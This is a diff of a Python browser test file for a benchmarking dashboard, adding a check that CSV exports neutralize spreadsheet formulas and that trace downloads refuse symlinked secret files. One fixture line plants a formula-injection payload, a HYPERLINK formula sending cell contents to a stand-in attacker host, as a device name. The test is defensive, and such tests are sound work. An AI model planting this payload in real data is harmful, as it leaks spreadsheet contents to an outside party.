@@ -1,8 +1,10 @@
-"""Trace downloads on the Phases page read only trace files in the results folder, at the click, through no link.
+"""The dashboard's downloads: trace files on the Phases page and the CSV of every table.
 
-The unit tests swap the file (or a folder above it) for a link between the check and the read; the browser test
-does the same to a real `fp8bench dashboard` in headless Chromium: the page is drawn, the trace is replaced by a
-link to a secret file, and the downloaded bytes must not be the secret.
+Traces are read only from trace files in the results folder, at the click, through no link. The unit tests swap
+the file (or a folder above it) for a link between the check and the read; the browser test does the same to a
+real `fp8bench dashboard` in headless Chromium: the page is drawn, the trace is replaced by a link to a secret
+file, and the downloaded bytes must not be the secret. CSV downloads neutralize cells a spreadsheet would run as
+formulas (checked in the browser too).
 """
 
 from __future__ import annotations
@@ -127,3 +129,44 @@ def test_phases_download_in_a_browser_serves_no_file_swapped_in_after_drawing(tm
     for served in (first, second):
         assert b"TOP-SECRET" not in served and b"root:" not in served
         assert json.loads(served)["error"].endswith("is no longer a readable trace; reload the page")
+
+
+@pytest.mark.browser
+@pytest.mark.slow
+def test_csv_downloads_in_a_browser_neutralize_formulas_from_stored_names(tmp_path):
+    import csv
+    import io
+
+    from tests.gate_fixtures import payload, record
+    from tests.test_dashboard_browser import CHROMIUM, CHROMIUM_ARGS, RENDER_TIMEOUT_MS, serve, stop
+
+    try:
+        from playwright.sync_api import sync_playwright
+    except ImportError:
+        from tests.conftest import skip_or_fail
+
+        skip_or_fail("the playwright Python package is not installed (pip install 'fp8bench[dev]')")
+    samples = [1e-3 * (1 + i / 100) for i in range(5)]
+    run = payload("csv1", [record(64, "bf16", samples), record(64, "fp8_rowwise", [s / 2 for s in samples])])
+    run["run"]["device"]["name"] = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
+    path = tmp_path / "run.json"
+    path.write_text(json.dumps(run))
+    results = tmp_path / "results"
+    run_cli("ingest", path, "--results-dir", results)
+    proc, base = serve(results)
+    try:
+        with sync_playwright() as pw:
+            browser = pw.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
+            page = browser.new_page(viewport={"width": 1400, "height": 2200})
+            page.goto(base)
+            button = page.get_by_role("button", name="Download speedups as CSV")
+            button.wait_for(timeout=RENDER_TIMEOUT_MS)
+            with page.expect_download(timeout=RENDER_TIMEOUT_MS) as info:
+                button.click()
+            text = Path(info.value.path()).read_text()
+            browser.close()
+    finally:
+        stop(proc)
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert rows and all(r["device_label"].startswith("'=HYPERLINK(") for r in rows)
+    assert all(not r["median_s"].startswith("'") for r in rows)  # numbers stay numbers
